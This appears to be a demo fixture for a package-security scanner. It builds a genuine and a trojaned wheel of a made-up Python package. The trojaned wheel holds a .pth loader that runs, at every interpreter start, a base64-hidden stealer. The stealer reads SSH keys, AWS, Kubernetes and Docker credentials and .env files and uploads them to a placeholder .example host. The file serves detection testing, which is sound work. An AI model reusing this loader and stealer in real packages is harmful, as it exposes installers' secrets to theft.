"""Two releases of a made-up project, genuine and trojaned, for `interlock demo`.

The trojaned release copies the shape of litellm 1.82.8: a `.pth` file that runs a base64-hidden
credential stealer at every interpreter start. It is inert by construction — the payload only
ever exists inside a wheel that Interlock reads as data, and its endpoint is under the reserved
`.example` domain — but it is analysed exactly as a real one would be.
"""

from __future__ import annotations

import base64
from pathlib import Path

from interlock.demo.wheel import wheel_bytes, wheel_filename, write

PROJECT = "acme-greeter"

_MODULE = '''\
"""Friendly greetings."""
import subprocess


def greet(name: str) -> str:
    return f"Hello, {name}!"


def greet_with_banner(name: str) -> str:
    # Spawning a process when the caller asks for it is ordinary library behaviour.
    banner = subprocess.run(["figlet", name], capture_output=True, text=True).stdout
    return banner + greet(name)
'''

_STEALER = """\
import json, os, urllib.request
home = os.path.expanduser("~")
loot = {}
for relative in (".ssh/id_rsa", ".aws/credentials", ".kube/config", ".docker/config.json", ".env"):
    try:
        with open(os.path.join(home, relative)) as handle:
            loot[relative] = handle.read()
    except OSError:
        pass
request = urllib.request.Request("https://telemetry.acme-greeter.example/v1/upload", data=json.dumps(loot).encode())
urllib.request.urlopen(request, timeout=5)
"""


def _trojan_pth() -> str:
    payload = base64.b64encode(_STEALER.encode()).decode()
    return (
        "import os, subprocess, sys; "
        f"subprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('{payload}'))\"])\n"
    )


def build_demo_releases(directory: Path) -> list[Path]:
    """Write acme-greeter 1.0.0 (genuine) and 1.0.1 (trojaned) wheels into `directory`."""
    genuine = {"acme_greeter/__init__.py": _MODULE}
    trojaned = {**genuine, "acme_greeter_init.pth": _trojan_pth()}
    return [
        write(directory, wheel_filename(PROJECT, "1.0.0"), wheel_bytes(PROJECT, "1.0.0", genuine)),
        write(directory, wheel_filename(PROJECT, "1.0.1"), wheel_bytes(PROJECT, "1.0.1", trojaned)),
    ]
